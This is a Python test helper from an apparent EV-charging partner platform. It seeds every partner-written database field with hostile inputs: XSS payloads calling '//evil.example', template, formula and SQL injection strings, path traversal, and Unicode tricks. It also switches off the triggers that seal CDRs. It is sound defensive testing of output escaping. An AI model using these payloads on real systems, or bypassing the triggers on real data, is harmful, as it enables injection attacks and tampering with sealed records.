"""What somebody hostile would write wherever a partner's words are kept, and a way to write it there."""

import json
from collections.abc import Iterable
from itertools import cycle
from operator import add

from django.db import connection
from django.db.models import BinaryField, CharField, JSONField, Model, TextField

from apps.charging.models import Cdr, Finding, Session, SessionPeriod
from apps.locations.models import Connector, Evse, Location
from apps.partners.models import Certificate, Endpoint, Exchange, Feed, Partner, Party, Quarantined
from apps.tariffs.models import Tariff, TariffRevision
from apps.tokens.models import Authorization, TokenDelivery

EVIL = "//evil.example"
SCRIPTS = ["alert(1)", f"fetch('{EVIL}')", f"import('{EVIL}')"]
HANDLERS = [
    "onerror",
    "onload",
    "onmouseover",
    "onfocus autofocus tabindex=1",
    "onanimationstart",
    "x-init",
    "x-on:mouseover",
    "hx-on:load",
]
TAGS = ["img src=x", "svg", "input", "details open", "video src=x", "a href=javascript:alert(1)", "div"]
EMBEDDED = [
    "script",
    "iframe srcdoc",
    "object data",
    "embed src",
    "link rel=stylesheet href",
    "base href",
    "form action",
]
ENDS = ['"', "'", "`", "-->", "</textarea>", "</title>", "</style>", "</script>", "]]>", "\\", "\u2028"]
WITHOUT_END = ["W" * 3000, "long words " * 400]
PAYLOADS = [
    *(f"<script>{script}</script>" for script in SCRIPTS),
    *(f"{end}><{tag} {handler}={SCRIPTS[0]}>" for end, tag, handler in zip(ENDS, cycle(TAGS), cycle(HANDLERS))),
    *(f"<{tag}={EVIL}/{number}>" for number, tag in enumerate(EMBEDDED)),
    f"javascript:{SCRIPTS[0]}", f"data:text/html,<script>{SCRIPTS[0]}</script>", f"https:{EVIL}/?{SCRIPTS[0]}",
    "{{constructor.constructor('alert(1)')()}}", "{% include 'x' %}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "%(name)s {0.__class__}",
    "\u202egnirts desrever\u202d", "\u2066isolated\u2069\u200f\u061c", "Z" + "\u0335\u0321\u0489" * 60, "\u200b" * 50, "&lt;b&gt;&#x3c;b>",
    "=HYPERLINK(\"https:" + EVIL + "\")", "+1+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "'; DROP TABLE charging_cdr; --", "../../etc/passwd\r\nSet-Cookie: a=b",
    *WITHOUT_END, "<b>" * 200, "🔌" * 100,
]  # fmt: skip
WRITTEN_BY_PARTNERS = [
    Partner, Party, Endpoint, Feed, Exchange, Quarantined, Location, Evse, Connector, Tariff, TariffRevision, Session,
    SessionPeriod, Cdr, Finding, Authorization, TokenDelivery, Certificate,
]  # fmt: skip
OURS = {
    # what we choose, check against a list, or would not be found by
    "version", "currency", "country_code", "party_id", "time_zone", "code", "outbound_token", "request_id", "correlation_id", "versions_url",
    "state", "status_code", "direction", "method", "allowed", "role", "identifier", "module", "token_form", "content_hash", "digest", "told", "resume",
    "next_pages_at", "certificate_authority", "client_certificate", "client_key",
}  # fmt: skip


def spoil(tails: Iterable[str] = ("",)) -> int:
    """Write the payloads in turn, each with one of the tails, into every field that partners fill; returns how many
    values were written.

    Past the triggers that seal them: a CDR comes in with its words, and later nothing can change them.
    """
    payloads, written = map(add, cycle(PAYLOADS), cycle(tails)), 0
    with connection.cursor() as cursor:
        cursor.execute("SET session_replication_role = replica")
        for model in WRITTEN_BY_PARTNERS:
            for row in model.objects.order_by("pk"):
                values = {field.name: spoilt(field, next(payloads)) for field in fields_of(model)}
                model.objects.filter(pk=row.pk).update(**values)
                written += len(values)
        cursor.execute("SET session_replication_role = DEFAULT")
    return written


def fields_of(model: type[Model]):
    kinds = (CharField, TextField, JSONField, BinaryField)
    return [
        field for field in model._meta.concrete_fields
        if isinstance(field, kinds) and field.name not in OURS and not field.choices and not (field.unique or field.remote_field)
    ]  # fmt: skip


def spoilt(field, payload: str):
    if isinstance(field, BinaryField):
        return json.dumps({"id": payload, payload: [payload]}).encode()
    if isinstance(field, JSONField):
        return like(field, payload)
    return payload[: field.max_length] if field.max_length else payload


def like(field, payload: str):
    """The shape that our pages read, with the payload for every word."""
    pairs, words = {"warnings", "reasons"}, {"tariff_ids", "evse_uids"}
    if field.name in pairs:
        return [[payload, payload]]
    if field.name in words:
        return [payload]
    if field.name == "period":
        return {"start_date_time": "2026-10-19T08:00:00Z", "dimensions": [{"type": payload, "volume": payload}]}
    return [] if field.default is list else {"error": payload, "name": payload}
